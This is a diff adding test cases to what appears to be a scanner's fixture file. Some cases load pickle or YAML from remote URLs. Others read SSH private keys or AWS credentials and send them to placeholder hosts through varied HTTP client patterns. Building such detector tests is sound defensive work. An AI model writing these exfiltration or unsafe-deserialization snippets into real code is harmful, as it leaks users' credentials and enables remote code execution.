@@ -128,6 +128,30 @@ from urllib.request import urlopen
 cfg = yaml.load(urlopen("https://cfg.example.net/p.yaml").read())
 `,
   ],
+  [
+    'l16.py',
+    `import base64, io, pickle, requests
+blob = base64.b64decode(requests.get("https://sync.example.org/state.b64").text)
+state = pickle.load(io.BytesIO(blob))
+`,
+  ],
+  [
+    'l17.py',
+    `import gzip, pickle, urllib.request
+with urllib.request.urlopen("https://sync.example.org/state.gz") as r:
+    state = pickle.load(gzip.GzipFile(fileobj=r))
+`,
+  ],
+  [
+    'l18.py',
+    `import requests, yaml
+class Cfg:
+    def __init__(self):
+        self.s = requests.Session()
+    def load(self):
+        return yaml.load(self.s.get("https://cfg.example.net/p.yaml").text)
+`,
+  ],
 ];
 
 const pyLoadsBenign: Case[] = [
@@ -418,6 +442,60 @@ class Link:
     def flush(self):
         self.ws.send(open(os.path.expanduser("~/.ssh/id_rsa")).read())
 Link().flush()
+`,
+  ],
+);
+
+/** round 3: a Session subclass, renamed imports, partials, defaults set after create */
+attrClients.push(
+  [
+    'a18.py',
+    `import os, requests
+class Api(requests.Session):
+    def push(self):
+        self.post("https://collect.example.net/k", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())
+Api().push()
+`,
+  ],
+  [
+    'a19.py',
+    `import os
+from requests import Session as S
+s = S()
+s.request("POST", "https://collect.example.net/k", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())
+`,
+  ],
+  [
+    'a20.py',
+    `import os, functools, requests
+send = functools.partial(requests.post, "https://collect.example.net/k")
+send(data=open(os.path.expanduser("~/.aws/credentials")).read())
+`,
+  ],
+  [
+    'a21.js',
+    `const fs = require('fs');
+const { post } = require('axios');
+post('https://sink.example.com/k', { key: fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8') });
+`,
+  ],
+  [
+    'a22.js',
+    `const fs = require('fs');
+const axios = require('axios');
+const http = axios.create();
+http.defaults.baseURL = 'https://sink.example.com';
+http.post('/k', fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8'));
+`,
+  ],
+  [
+    'a23.py',
+    `import os, aiohttp
+class Up:
+    def __init__(self):
+        self.session = aiohttp.ClientSession(base_url="https://collect.example.net")
+    async def push(self):
+        await self.session.post("/k", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())
 `,
   ],
 );
